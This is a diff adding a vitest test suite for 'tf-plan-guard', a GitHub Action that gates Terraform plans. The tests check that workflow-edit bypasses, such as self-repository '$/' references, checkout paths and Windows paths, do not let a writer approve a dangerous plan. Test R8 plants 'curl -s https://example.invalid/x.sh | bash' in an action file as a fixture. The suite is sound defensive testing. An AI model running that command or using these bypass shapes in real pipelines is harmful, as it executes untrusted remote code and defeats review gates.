@@ -1,0 +1,274 @@
+/**
+ * The running workflow's reach and the base's gate steps, attacked as audit 10 did: the
+ * self-repository form `$/`, an action checked out elsewhere (`./infra/...`), a Windows `.\\`
+ * path, a strict gate in another repository's reusable workflow or behind an expression; and the
+ * false positives the reading must not make (a scheduled workflow, many YAML aliases, a Renovate
+ * bump). Each test asserts the safe or the ordinary behaviour.
+ */
+import { describe, expect } from 'vitest';
+import { type FakeGitHub } from '../support/github-server.js';
+import { pullRequestPayload, runAction } from '../support/run-action.js';
+import { analyzeRun, CHECK_NAME, expectRun, LABEL, openPullRequest, TEAM, test } from './scenario.js';
+
+const DANGEROUS = 'fixtures/incidents/rds-delete-unprotected.json';
+const WORKFLOW = '.github/workflows/plan-guard.yml';
+const DEV = '.github/workflows/dev.yml';
+const ACTION_ENV = { GITHUB_ACTION_REPOSITORY: 'acme/tf-plan-guard' };
+const SANDBOX_INPUTS = ['config-file: sandbox/tf-plan-guard.yml', 'block-on: none'];
+const SANDBOX_WITH = { 'config-file': 'sandbox/tf-plan-guard.yml', 'block-on': 'none' };
+
+function job(id: string, inputs: string[], uses = 'acme/tf-plan-guard@v1', checkout: string[] = ['      - uses: actions/checkout@v4']): string[] {
+  return [
+    `  ${id}:`,
+    '    runs-on: ubuntu-latest',
+    '    steps:',
+    ...checkout,
+    '      - name: Gate',
+    `        uses: ${uses}`,
+    '        with:',
+    '          plan-file: db/plan.json',
+    ...inputs.map((line) => `          ${line}`),
+  ];
+}
+/** A job whose gate is a local (composite) action: `uses: <path>`, no `with:` of the gate's own. */
+function localActionJob(id: string, uses: string, checkout: string[] = ['      - uses: actions/checkout@v4']): string[] {
+  return [`  ${id}:`, '    runs-on: ubuntu-latest', '    steps:', ...checkout, '      - name: Gate', `        uses: ${uses}`];
+}
+const composite = (inputs: string[], uses = 'acme/tf-plan-guard@v1') =>
+  ['name: gate', 'runs:', '  using: composite', '  steps:', `    - uses: ${uses}`, '      with:', '        plan-file: db/plan.json', ...inputs.map((line) => `        ${line}`), ''].join('\n');
+const wf = (...jobs: string[][]) => ['on: pull_request', 'jobs:', ...jobs.flat(), ''].join('\n');
+const wfOnPaths = (paths: string, ...jobs: string[][]) => ['on:', '  pull_request:', `    paths: ['${paths}']`, 'jobs:', ...jobs.flat(), ''].join('\n');
+const runningFrom = (fake: FakeGitHub, path: string, number: number) => ({ ...ACTION_ENV, GITHUB_WORKFLOW_REF: `${fake.fullName}/${path}@refs/pull/${number}/merge` });
+
+function latest(fake: FakeGitHub, number: number) {
+  return fake.latestCheckRun(fake.pull(number).headSha, CHECK_NAME)?.conclusion;
+}
+async function label(fake: FakeGitHub, number: number, login: string, inputs: Record<string, string>, env: Record<string, string>) {
+  fake.addLabel(number, LABEL, login);
+  const run = await runAction({ fake, eventName: 'pull_request', payload: pullRequestPayload(fake, { action: 'labeled', number, sender: login, label: LABEL }), inputs: { 'plan-file': '', ...inputs }, env });
+  expectRun(run, 0);
+  return run;
+}
+function withSandboxPolicy(fake: FakeGitHub, pull: { baseSha: string; headSha: string }) {
+  const sandbox = ['block-on: none', 'rules:', '  stateful-delete: { enabled: false }', ''].join('\n');
+  for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, 'sandbox/tf-plan-guard.yml', sandbox);
+}
+function workflowChanged(run: { reportText: string | undefined }) {
+  const report = JSON.parse(run.reportText ?? 'null') as { plans: { findings: { ruleId: string; message: string }[] }[] };
+  return report.plans.flatMap((plan) => plan.findings).find((finding) => finding.ruleId === 'workflow-changed');
+}
+/** The dangerous plan blocks, and a writer's (carol's) label does not approve it: the check stays failed. */
+async function expectWriterRefused(fake: FakeGitHub, number: number, inputs: Record<string, string>, env: Record<string, string>, tag: string) {
+  const run = await analyzeRun(fake, number, { plan: DANGEROUS, inputs, env });
+  expectRun(run, 0);
+  const approved = await label(fake, number, TEAM.writer, inputs, env);
+  console.log(`${tag}: analysis blocking=${run.outputs['blocking']} workflow-changed=${workflowChanged(run) ? 'yes' : 'no'}; carol's label approved=${approved.outputs['approved']}; check=${latest(fake, number)}`);
+  expect(run.outputs['blocking']).toBe('true');
+  expect(approved.outputs['approved']).toBe('false');
+  expect(latest(fake, number)).toBe('failure');
+  return run;
+}
+
+describe.concurrent('the reach: every form of a local reference, and a reference the reach cannot see', () => {
+  const ACTION = '.github/actions/gate/action.yml';
+
+  // Control: the plain layout W3 covers.
+  // R1: actions/checkout with `path: infra` puts the repository at $GITHUB_WORKSPACE/infra, so the
+  // workflow says `uses: ./infra/.github/actions/gate` (GitHub's docs: "If the action checks out the
+  // repository to a location different than the workflow, the relative path used for local actions
+  // must be updated"). The runner runs the PR's .github/actions/gate/action.yml; the reach looks for
+  // infra/.github/actions/gate/action.yml in the repository (missing at base and head).
+  test('R1 checkout path: uses ./infra/.github/actions/gate, the PR edits .github/actions/gate/action.yml', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1001);
+    pull.files.push({ filename: ACTION, status: 'modified' });
+    const checkout = ['      - uses: actions/checkout@v4', '        with:', '          path: infra'];
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './infra/.github/actions/gate', checkout)));
+    fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
+    fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
+    // The runner passes the PR's composite's inputs: approvers carol.
+    await expectWriterRefused(fake, 1001, { approvers: 'carol' }, { ...ACTION_ENV }, 'R1');
+  });
+
+  // R1b: the action directory is a symlink in the repository (.github/actions/gate -> ../../ci/gate).
+  // The runner follows it on disk; the contents API does not resolve a path through a symlinked directory.
+  // R0: GitHub's self-repository syntax (changelog 2026-07-30, "now the recommended way to compose
+  // actions and reusable workflows within a repository"): `uses: $/path` resolves to the workflow's own
+  // repository at the running commit, for steps, composite steps and reusable workflow calls alike.
+  test('R0 self-repository action: uses $/.github/actions/gate, the PR edits its action.yml', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1005);
+    pull.files.push({ filename: ACTION, status: 'modified' });
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', '$/.github/actions/gate', [])));
+    fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
+    fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
+    await expectWriterRefused(fake, 1005, { approvers: 'carol' }, { ...ACTION_ENV }, 'R0');
+  });
+  test('R0b self-repository reusable workflow: jobs.plan.uses $/.github/workflows/gate.yml, the PR edits gate.yml', async ({ fake }) => {
+    const GATE = '.github/workflows/gate.yml';
+    const pull = openPullRequest(fake, 1006);
+    pull.files.push({ filename: GATE, status: 'modified' });
+    const caller = ['on: pull_request', 'jobs:', '  plan:', `    uses: $/${GATE}`, ''].join('\n');
+    const called = (inputs: string[]) => ['on: workflow_call', 'jobs:', ...job('gate', inputs), ''].join('\n');
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, caller);
+    fake.setFile(pull.baseSha, GATE, called(['approvers: olivia']));
+    fake.setFile(pull.headSha, GATE, called(['approvers: carol']));
+    await expectWriterRefused(fake, 1006, { approvers: 'carol' }, { ...ACTION_ENV }, 'R0b');
+  });
+
+  // S8 (sound): a strict prod gate in a $/-called reusable workflow is still read by the base-step
+  // reading, since reusable workflows live directly in .github/workflows and every one is listed.
+  // R0c: the base-step reading (V1) misses a strict prod gate kept in a composite action used with `$/`.
+  test('R0c prod gate in a $/ composite action (paths-filtered prod), dev local and loose: the PR edits dev', async ({ fake }) => {
+    const PROD_ACTION = '.github/actions/prod-gate/action.yml';
+    const pull = openPullRequest(fake, 1009);
+    pull.files.push({ filename: DEV, status: 'modified' });
+    withSandboxPolicy(fake, pull);
+    const prod = wfOnPaths('envs/prod/**', localActionJob('plan', '$/.github/actions/prod-gate', []));
+    for (const ref of [pull.baseSha, pull.headSha]) {
+      fake.setFile(ref, WORKFLOW, prod);
+      fake.setFile(ref, PROD_ACTION, composite(['approvers: olivia']));
+    }
+    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
+    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
+    await expectWriterRefused(fake, 1009, SANDBOX_WITH, runningFrom(fake, DEV, 1009), 'R0c');
+  });
+
+  // R1d: the action directory is a git submodule (checkout with `submodules: true`). The PR bumps the
+  // submodule to a commit whose action.yml sets approvers: carol. GitHub's file list names the
+  // submodule path (`tools/gate`, "Subproject commit …"); the contents API has no file inside a
+  // submodule (404). `tools/gate` is neither under .github/ nor an action.yml: the run exits before
+  // reading anything.
+  // R1e: the action file itself is a symlink (.github/actions/gate/action.yml -> ../../../ci/gate.yml).
+  // The contents API answers the path with the target's content (so the reach reads the real text), but
+  // the PR's file list names the target, ci/gate.yml, which the reach never compares against.
+  // R1c: a Windows runner: the runner takes `.\` as a local path too (actions/runner
+  // PipelineTemplateConverter: StartsWith("./") || StartsWith(".\\")).
+  test('R1c backslash local path .\\.github\\actions\\gate (Windows runner): the PR edits its action.yml', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1003);
+    pull.files.push({ filename: ACTION, status: 'modified' });
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', "'.\\.github\\actions\\gate'")));
+    fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
+    fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
+    await expectWriterRefused(fake, 1003, { approvers: 'carol' }, { ...ACTION_ENV }, 'R1c');
+  });
+});
+
+describe.concurrent('base gate steps the reading cannot see count, read the strictest way', () => {
+  // R2: prod's gate is an org-shared reusable workflow (another repository), path-filtered; dev's is a
+  // local step writing the same check. The PR edits dev only (audit8 B1's shape). README: "while a PR
+  // changes the running workflow, the inputs such a step sets read the strictest way".
+  test('R2 prod gate in another repository\'s reusable workflow, dev local and loose: the PR edits dev', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1011);
+    pull.files.push({ filename: DEV, status: 'modified' });
+    withSandboxPolicy(fake, pull);
+    const prod = ['on:', '  pull_request:', "    paths: ['envs/prod/**']", 'jobs:', '  plan:', '    uses: acme/shared-ci/.github/workflows/tf-plan-guard.yml@v1', '    with:', '      approvers: olivia', '    secrets: inherit', ''].join('\n');
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, prod);
+    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
+    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
+    await expectWriterRefused(fake, 1011, SANDBOX_WITH, runningFrom(fake, DEV, 1011), 'R2');
+  });
+
+  // R2b: the same with prod's gate in another repository's composite action wrapping tf-plan-guard.
+  // R6: the base step's whole `with:` is one expression (the runner's ConvertToStepInputs accepts an
+  // ExpressionToken for it); the reading sees no inputs at all and takes every default as the base's word.
+  test('R6 base gate step with: ${{ fromJSON(vars.GATE) }} (one expression): the PR changes the running workflow', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1014);
+    pull.files.push({ filename: WORKFLOW, status: 'modified' });
+    const base = ['on: pull_request', 'jobs:', '  plan:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: acme/tf-plan-guard@v1', '        with: ${{ fromJSON(vars.PLAN_GUARD_INPUTS) }}', ''].join('\n');
+    fake.setFile(pull.baseSha, WORKFLOW, base);
+    fake.setFile(pull.headSha, WORKFLOW, wf(job('plan', ['approvers: carol'])));
+    await expectWriterRefused(fake, 1014, { approvers: 'carol' }, { ...ACTION_ENV }, 'R6');
+  });
+
+  // R5: prod's step names its check by an expression that evaluates to the required check.
+  test('R5 prod step check-name by expression, dev literal default: the PR edits dev', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1013);
+    pull.files.push({ filename: DEV, status: 'modified' });
+    withSandboxPolicy(fake, pull);
+    const prod = wfOnPaths('envs/prod/**', job('plan', ['approvers: olivia', 'check-name: ${{ vars.PLAN_GUARD_CHECK }}']));
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, prod);
+    fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
+    fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
+    await expectWriterRefused(fake, 1013, SANDBOX_WITH, runningFrom(fake, DEV, 1013), 'R5');
+  });
+});
+
+describe.concurrent('workflows that never write the check, and other false positives', () => {
+  // R3: one PR gate (approvers: carol, a writer) and a nightly drift workflow running tf-plan-guard
+  // on schedule (no PR, so it never writes a PR's check) with other inputs. Renovate bumps checkout
+  // in the PR gate's workflow. Before b0de287 (a0f4800) the drift workflow was not read: carol approved.
+  test('R3 Renovate bump with a scheduled drift workflow beside: the listed approver (a writer) still approves', async ({ fake }) => {
+    const DRIFT = '.github/workflows/drift.yml';
+    const pull = openPullRequest(fake, 1021);
+    pull.files.push({ filename: WORKFLOW, status: 'modified' });
+    fake.setFile(pull.baseSha, WORKFLOW, wf(job('plan', ['approvers: carol'])));
+    fake.setFile(pull.headSha, WORKFLOW, wf(job('plan', ['approvers: carol'])).replace('checkout@v4', 'checkout@v5'));
+    const drift = ['on:', '  schedule:', "    - cron: '0 6 * * *'", 'jobs:', ...job('drift', ['comment: false', 'fail-on-block: true']), ''].join('\n');
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, DRIFT, drift);
+    const run = await analyzeRun(fake, 1021, { plan: DANGEROUS, inputs: { approvers: 'carol' }, env: { ...ACTION_ENV } });
+    expectRun(run, 0);
+    const approved = await label(fake, 1021, TEAM.writer, { approvers: 'carol' }, { ...ACTION_ENV });
+    console.log(`R3: carol approved=${approved.outputs['approved']} check=${latest(fake, 1021)}; warnings: ${approved.stdout.split('\n').filter((line) => line.includes('::warning')).join(' | ').slice(0, 600)}`);
+    expect(approved.outputs['approved']).toBe('true');
+    expect(latest(fake, 1021)).toBe('success');
+  });
+
+  // R7: GitHub parses anchors and aliases (since 2025-09); the reach's parser gives up past 100 aliases
+  // (maxAliasCount: 100), so a running workflow using 101 small aliases makes the reach "incomplete":
+  // an ordinary PR touching an unrelated workflow (terraform.yml, in every scenario PR's file list) is
+  // then a workflow-changed PR read the strictest way.
+  test('R7 running workflow with 101 aliases (env: *env per job): an ordinary PR touching another workflow', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1023);
+    const jobs = Array.from({ length: 101 }, (_, index) => [`  lint${index}:`, '    runs-on: ubuntu-latest', '    env: *env', '    steps:', `      - run: echo ${index}`]).flat();
+    const text = ['on: pull_request', 'env: &env', "  TF_IN_AUTOMATION: '1'", 'jobs:', ...job('plan', []), ...jobs, ''].join('\n');
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, text);
+    const run = await analyzeRun(fake, 1023, { plan: DANGEROUS, env: { ...ACTION_ENV } });
+    expectRun(run, 0);
+    const approved = await label(fake, 1023, TEAM.writer, {}, { ...ACTION_ENV });
+    console.log(`R7: workflow-changed=${workflowChanged(run) ? 'yes' : 'no'} approved=${approved.outputs['approved']} check=${latest(fake, 1023)}`);
+    expect(workflowChanged(run)).toBeUndefined();
+    expect(approved.outputs['approved']).toBe('true');
+  });
+
+  // R8: with the reach incomplete (R7's 101 aliases), a touched action beyond it is bound by its list
+  // entry, not its content: an admin's approval survives a later push that rewrites the file.
+  test('R8 incomplete reach: approval of a touched action survives a push that changes its content', async ({ fake }) => {
+    const OTHER = '.github/actions/plan/action.yml';
+    const pull = openPullRequest(fake, 1024);
+    pull.files.push({ filename: OTHER, status: 'modified' });
+    const jobs = Array.from({ length: 101 }, (_, index) => [`  lint${index}:`, '    runs-on: ubuntu-latest', '    env: *env', '    steps:', `      - run: echo ${index}`]).flat();
+    // The plan job makes its plan with the local action (the reach cannot tell: the file is "unreadable").
+    const text = ['on: pull_request', 'env: &env', "  TF_IN_AUTOMATION: '1'", 'jobs:', ...job('plan', [], 'acme/tf-plan-guard@v1', ['      - uses: actions/checkout@v4', '      - uses: ./.github/actions/plan']), ...jobs, ''].join('\n');
+    const planAction = (line: string) => ['name: plan', 'runs:', '  using: composite', '  steps:', `    - run: ${line}`, '      shell: bash', ''].join('\n');
+    for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, text);
+    fake.setFile(pull.baseSha, OTHER, planAction('terraform plan -out plan.tfplan'));
+    fake.setFile(pull.headSha, OTHER, planAction('terraform plan -lock=false -out plan.tfplan'));
+    const first = await analyzeRun(fake, 1024, { plan: DANGEROUS, env: { ...ACTION_ENV } });
+    expectRun(first, 0);
+    expect(workflowChanged(first)).toBeDefined();
+    const approved = await label(fake, 1024, TEAM.admin, {}, { ...ACTION_ENV });
+    expect(approved.outputs['approved']).toBe('true');
+    const newHead = 'f'.repeat(40);
+    fake.pushCommit(1024, TEAM.author, { sha: newHead });
+    fake.setFile(newHead, WORKFLOW, text);
+    fake.setFile(newHead, OTHER, planAction('curl -s https://example.invalid/x.sh | bash'));
+    const second = await analyzeRun(fake, 1024, { plan: DANGEROUS, action: 'synchronize', env: { ...ACTION_ENV } });
+    expectRun(second, 0);
+    console.log(`R8: after the push approved=${second.outputs['approved']} check=${latest(fake, 1024)}`);
+    expect(second.outputs['approved']).toBe('false');
+  });
+
+  // R4: how many reads a changed running workflow costs in a repository with 299 workflows.
+  test('S6 no false positive: Renovate bumps checkout in the only workflow: the writer approves', async ({ fake }) => {
+    const pull = openPullRequest(fake, 1036);
+    pull.files.push({ filename: WORKFLOW, status: 'modified' });
+    fake.setFile(pull.baseSha, WORKFLOW, wf(job('plan', [])));
+    fake.setFile(pull.headSha, WORKFLOW, wf(job('plan', [])).replace('checkout@v4', 'checkout@v5'));
+    const run = await analyzeRun(fake, 1036, { plan: DANGEROUS, env: { ...ACTION_ENV } });
+    expectRun(run, 0);
+    const approved = await label(fake, 1036, TEAM.writer, {}, { ...ACTION_ENV });
+    console.log(`S6: workflow-changed=${workflowChanged(run) ? 'yes' : 'no'} approved=${approved.outputs['approved']} check=${latest(fake, 1036)}`);
+    expect(approved.outputs['approved']).toBe('true');
+    expect(latest(fake, 1036)).toBe('success');
+  });
+
+});
